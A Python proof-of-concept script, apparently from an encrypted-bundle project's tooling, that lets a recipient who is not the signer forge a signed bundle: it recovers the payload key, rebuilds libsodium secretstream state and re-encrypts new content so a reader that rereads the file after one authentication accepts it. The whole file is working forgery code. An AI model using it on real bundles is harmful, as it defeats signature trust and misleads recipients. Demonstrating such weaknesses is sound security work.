#!/usr/bin/env python3
# forge_payload.py IDENTITY_FILE BUNDLE NEWCONTENT OUT: what a recipient of a signed bundle who is
# not its signer can make. With the identity's X25519 stanza it recovers the file key, derives
# the payload key (doc/FORMAT.md) and rebuilds the secretstream state from the bundle's own
# 24-byte stream header. It decrypts the payload, then encrypts it again in the same layout (the
# index message byte for byte, content messages of SP_CHUNK_BYTES, the final message, the header
# MAC as additional data) with NEWCONTENT in place of the content, cut or padded with NUL bytes to
# the original length (said on stderr), and writes header || stream header || forged payload ||
# the original signature trailer to OUT. The header and stream header are byte-identical, so a
# reader that authenticated the bundle once and then read the file again would accept every
# forged message; only the signature (over the original payload) tells them apart.
# secretstream chains each message's MAC into the next nonce, so a reader part-way through the
# file accepts forged messages only after messages identical to those it already read: content
# that starts with the original content's first K chunks gives byte-identical first K content
# messages (same state, same plaintext), and the file can be swapped while the reader is there.
# Prints "forged: <bytes> bytes in <n> content messages, first <k> unchanged".
# Needs libsodium (ctypes).
import ctypes
import struct
import sys

from bundlelib import die, file_key, identity, na, parse_header, subkey

CHUNK = 65536  # SP_CHUNK_BYTES
ABYTES = 17
SH_BYTES = 24
SIG_BYTES = 64
TAG_MESSAGE, TAG_FINAL = 0, 3
STATE_BYTES = na.crypto_secretstream_xchacha20poly1305_statebytes()
assert STATE_BYTES == 52, STATE_BYTES


def state_from_header(key, sh):
    """libsodium's init_pull / init_push after the header is drawn: k = HChaCha20(key,
    sh[0:16]), nonce = counter 1 (u32 LE) || sh[16:24], 8 bytes of padding."""
    k = ctypes.create_string_buffer(32)
    na.crypto_core_hchacha20(k, sh[:16], key, None)
    raw = k.raw + struct.pack("<I", 1) + sh[16:24] + b"\0" * 8
    return ctypes.create_string_buffer(raw, STATE_BYTES)


def pull(st, c, ad):
    m = ctypes.create_string_buffer(max(len(c) - ABYTES, 1))
    tag = ctypes.c_ubyte()
    if na.crypto_secretstream_xchacha20poly1305_pull(st, m, None, ctypes.byref(tag), c,
            ctypes.c_ulonglong(len(c)), ad, ctypes.c_ulonglong(len(ad))) != 0:
        return None, None
    return m.raw[:len(c) - ABYTES], tag.value


def push(st, m, tag, ad):
    c = ctypes.create_string_buffer(len(m) + ABYTES)
    if na.crypto_secretstream_xchacha20poly1305_push(st, c, None, m, ctypes.c_ulonglong(len(m)),
            ad, ctypes.c_ulonglong(len(ad)), ctypes.c_ubyte(tag)) != 0:
        die("push failed")
    return c.raw


def decrypt(key, b, hlen, mac, end, index_len):
    """-> (index plaintext, content plaintext, content message count); dies on any failure."""
    sh = b[hlen:hlen + SH_BYTES]
    st = state_from_header(key, sh)
    ref = ctypes.create_string_buffer(STATE_BYTES)
    if na.crypto_secretstream_xchacha20poly1305_init_pull(ref, sh, key) != 0:
        die("init_pull failed")
    if ref.raw != st.raw:
        die("the state built from the stream header differs from libsodium's init_pull")
    off = hlen + SH_BYTES
    index, tag = pull(st, b[off:off + index_len + ABYTES], mac)
    if index is None or tag != TAG_MESSAGE:
        die("the index message does not authenticate")
    off += index_len + ABYTES
    parts, n = [], 0
    while end - off > ABYTES:
        clen = min(CHUNK + ABYTES, end - off - ABYTES)
        m, tag = pull(st, b[off:off + clen], mac)
        if m is None or tag != TAG_MESSAGE:
            die("content message %d does not authenticate" % n)
        parts.append(m)
        off += clen
        n += 1
    m, tag = pull(st, b[off:end], mac)
    if m is None or tag != TAG_FINAL or m != b"":
        die("the final message does not authenticate")
    return index, b"".join(parts), n


def encrypt(key, sh, mac, index, content):
    st = state_from_header(key, sh)
    out = [push(st, index, TAG_MESSAGE, mac)]
    for i in range(0, len(content), CHUNK):
        out.append(push(st, content[i:i + CHUNK], TAG_MESSAGE, mac))
    out.append(push(st, b"", TAG_FINAL, mac))
    return b"".join(out)


def main():
    if len(sys.argv) != 5:
        sys.exit("usage: forge_payload.py IDENTITY_FILE BUNDLE NEWCONTENT OUT")
    sk = identity(sys.argv[1])
    b = open(sys.argv[2], "rb").read()
    new = open(sys.argv[3], "rb").read()
    h, stanzas, signed = parse_header(b)
    if not signed:
        die("the bundle is not signed (nothing to forge past)")
    hlen, mac = len(h), h[-32:]
    index_len = struct.unpack_from("<I", h, 31)[0]
    fk = file_key(sk, stanzas)
    hk = subkey(fk, 1)
    if na.crypto_auth_verify(mac, h[:-32], ctypes.c_ulonglong(hlen - 32), hk) != 0:
        die("the header MAC does not verify under the recovered file key")
    pk = subkey(fk, 2)
    end = len(b) - SIG_BYTES
    sh, trailer = b[hlen:hlen + SH_BYTES], b[end:]

    index, content, n = decrypt(pk, b, hlen, mac, end, index_len)
    # The rebuilt push state reproduces the original payload from its plaintext: same key, same
    # nonces, same layout.
    if encrypt(pk, sh, mac, index, content) != b[hlen + SH_BYTES:end]:
        die("re-encrypting the original plaintext does not give the original payload")

    if len(new) != len(content):
        sys.stderr.write("forge_payload: NEWCONTENT is %d bytes, the content %d: %s\n" % (
            len(new), len(content), "cut" if len(new) > len(content) else "padded with NUL bytes"))
        new = new[:len(content)].ljust(len(content), b"\0")
    forged = encrypt(pk, sh, mac, index, new)
    out = h + sh + forged + trailer
    if len(out) != len(b):
        die("the forged bundle's length differs from the original's")
    # What a second pass reading the file would see: the same header and stream header, and a
    # payload that authenticates message by message and gives the new content.
    if out[:hlen + SH_BYTES] != b[:hlen + SH_BYTES]:
        die("header or stream header changed")
    index2, content2, n2 = decrypt(pk, out, hlen, mac, end, index_len)
    if index2 != index or content2 != new or n2 != n:
        die("the forged payload does not decrypt to the new content")
    with open(sys.argv[4], "wb") as f:
        f.write(out)
    first, step = hlen + SH_BYTES + index_len + ABYTES, CHUNK + ABYTES
    same = 0
    while same < n and out[first + same * step:first + (same + 1) * step] == \
            b[first + same * step:first + (same + 1) * step]:
        same += 1
    print("forged: %d bytes in %d content messages, first %d unchanged" % (len(new), n, same))


main()
